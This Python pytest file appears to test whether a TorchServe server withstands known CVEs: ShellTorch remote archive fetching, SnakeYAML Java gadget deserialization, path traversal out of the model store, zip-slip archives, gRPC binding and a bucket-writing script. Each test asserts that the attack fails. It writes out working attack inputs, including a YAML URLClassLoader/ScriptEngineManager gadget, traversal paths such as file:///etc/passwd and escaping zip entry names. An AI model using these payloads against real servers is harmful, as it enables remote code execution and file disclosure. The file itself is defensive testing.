"""TorchServe's known vulnerabilities, tried against a server of this project. Each test has the number in its name.

The model API is off, which alone stops most of them. They are tried again on a server with the API on. There, only the
rule that archives come from the store stops them.
"""

from __future__ import annotations

import importlib.util
import json
import socket
import zipfile
from pathlib import Path

import pytest

from tests.conftest import Served
from tests.trust.access import call, field, http, keys
from tests.trust.own import serving_null, store_of_null

pytestmark = pytest.mark.served


@pytest.fixture(scope="module")
def opened(null_store: Path, tmp_path_factory: pytest.TempPathFactory):
    """A server of ``null`` with ``enable_model_api=true``, the wrong setting that the attacks need."""
    folder = tmp_path_factory.mktemp("opened")
    with serving_null(store_of_null(null_store, folder), folder, {}, enable_model_api="true") as served:
        yield served


def store_of(server: Served) -> Path:
    """The folder that is TorchServe's model store."""
    return server.directory.models


@pytest.fixture(params=["as configured", "with the model API on"])
def server(request, served, opened) -> Served:
    return served if request.param == "as configured" else opened


class Listener:
    """A web server that attacks point at. No server may ever connect to it."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self._socket.settimeout(0.5)
        self.address = f"http://127.0.0.1:{self._socket.getsockname()[1]}"

    def was_called(self) -> bool:
        try:
            self._socket.accept()
        except TimeoutError:
            return False
        return True


@pytest.fixture
def listener():
    found = Listener()
    yield found
    found._socket.close()


def register(server: Served, url: str, path: str = "/models") -> int:
    """Tries to register ``url`` with the management key, over HTTP and over gRPC; the HTTP status."""
    token = f"Bearer {keys(server)['management']}"
    if path == "/models":
        service = "/org.pytorch.serve.grpc.management.ManagementAPIsService/RegisterModel"
        assert call(server.config, "grpc_management_port", service, token, field(9, url))[0] != "OK"
    reply = http(server.config.management, "POST", path, token, params={"url": url})
    assert 400 <= reply.status_code < 500, reply.text
    return reply.status_code


def test_the_listener_notices_a_call(listener):
    with socket.create_connection(("127.0.0.1", int(listener.address.rsplit(":", 1)[1]))):
        assert listener.was_called()


@pytest.mark.parametrize("path", ["/models", "/workflows"])
def test_cve_2023_43654_shelltorch_no_archive_is_fetched_over_the_network(server, listener, path):
    before, known = sorted(store_of(server).iterdir()), server.client.models()
    for url in ("{0}/evil.mar", "{0}/evil.war", "{0}#file://x/", "{0}/?x={1}/null.mar", "HTTP://127.0.0.1:9/evil.mar"):
        register(server, url.format(listener.address, f"file://{store_of(server)}"), path)
    assert not listener.was_called()
    assert sorted(store_of(server).iterdir()) == before
    assert server.client.models() == known


def test_cve_2023_43654_shelltorch_management_takes_a_key_and_loopback(served):
    assert http(served.config.management, "GET", "/models", None).status_code == 401
    assert served.config.management.startswith("http://127.0.0.1:")


def archive(path: Path, **entries: bytes) -> None:
    """An archive with that content; its manifest names a handler and, if there is one, the YAML file."""
    manifest = {"model": {"modelName": "evil", "handler": "h.py", "modelVersion": "1.0"}, "archiverVersion": "0.12.0"}
    if "config.yaml" in entries:
        manifest["model"]["configFile"] = "config.yaml"
    with zipfile.ZipFile(path, "w") as made:
        made.writestr("MAR-INF/MANIFEST.json", json.dumps({**manifest, "createdOn": "", "runtime": "python"}))
        for name, content in entries.items():
            made.writestr(name, content)


def register_evil(server: Served, **entries: bytes) -> bool:
    """Puts such an archive into the store, registers it with the management key and removes both. Returns whether it
    was accepted."""
    path, token = store_of(server) / "evil.mar", f"Bearer {keys(server)['management']}"
    archive(path, **entries)
    reply = http(server.config.management, "POST", "/models", token, params={"url": path.name})
    http(server.config.management, "DELETE", "/models/evil", token)
    path.unlink(missing_ok=True)
    return reply.ok


def test_cve_2022_1471_snakeyaml_constructs_no_java_objects(opened, listener):
    loader = f'!!java.net.URLClassLoader [[!!java.net.URL ["{listener.address}/"]]]'
    gadget = f"minWorkers: !!javax.script.ScriptEngineManager [{loader}]\n"
    register_evil(opened, **{"h.py": b"", "config.yaml": gadget.encode()})
    assert not listener.was_called()
    assert "Global tag is not allowed" in (opened.directory.logs / "ts_log.log").read_text()  # it was read and refused


def test_cve_2024_35198_a_path_out_of_the_store_is_no_allowed_url(server, tmp_path):
    outside = tmp_path / "outside.mar"
    archive(outside, **{"h.py": b""})
    up = "/".join([".."] * 12)
    before, known = sorted(store_of(server).iterdir()), server.client.models()
    for url in (f"file://{store_of(server)}/{up}{outside}", f"file://{outside}",
    f"file://{store_of(server)}/%2e%2e/{outside.name}",
                f"{up}{outside}", str(outside), "file:///etc/passwd", "../null.mar",
                "./../models/null.mar"):  # fmt: skip
        register(server, url)
    assert sorted(store_of(server).iterdir()) == before
    assert server.client.models() == known


def test_cve_2024_35199_grpc_listens_on_loopback(served):
    ports = {number for number, key in served.config.ports().items() if key.startswith("grpc")}
    found = [
        connection.laddr for process in served.directory.read().processes()
        for connection in process.net_connections("inet") if connection.laddr.port in ports and not connection.raddr
    ]  # fmt: skip
    assert {address.port for address in found} == ports
    assert {address.ip.removeprefix("::ffff:") for address in found} == {"127.0.0.1"}


def test_cve_2023_48299_zipslip_an_archive_writes_nothing_outside_its_folder(opened):
    temp = Path(opened.directory.read().temp)
    names = {"h.py": b"", "../../escaped-zipslip": b"x", f"{temp}/escaped-zipslip": b"x"}
    assert register_evil(opened, **{"h.py": b""})  # the same without the paths is taken
    assert not register_evil(opened, **names)
    inside = {path for path in temp.rglob("escaped-zipslip") if "models" in path.relative_to(temp).parts}
    assert {*temp.rglob("escaped-zipslip"), *temp.parent.glob("escaped-zipslip")} <= inside


def test_cve_2024_6577_no_script_of_the_wheel_writes_to_a_bucket():
    package = Path(importlib.util.find_spec("ts").origin).parent
    scripts = [path for path in package.rglob("*") if path.suffix in (".sh", ".py")]
    assert scripts
    assert not [path for path in scripts if "benchmarkai-metrics" in path.read_text(errors="replace")]
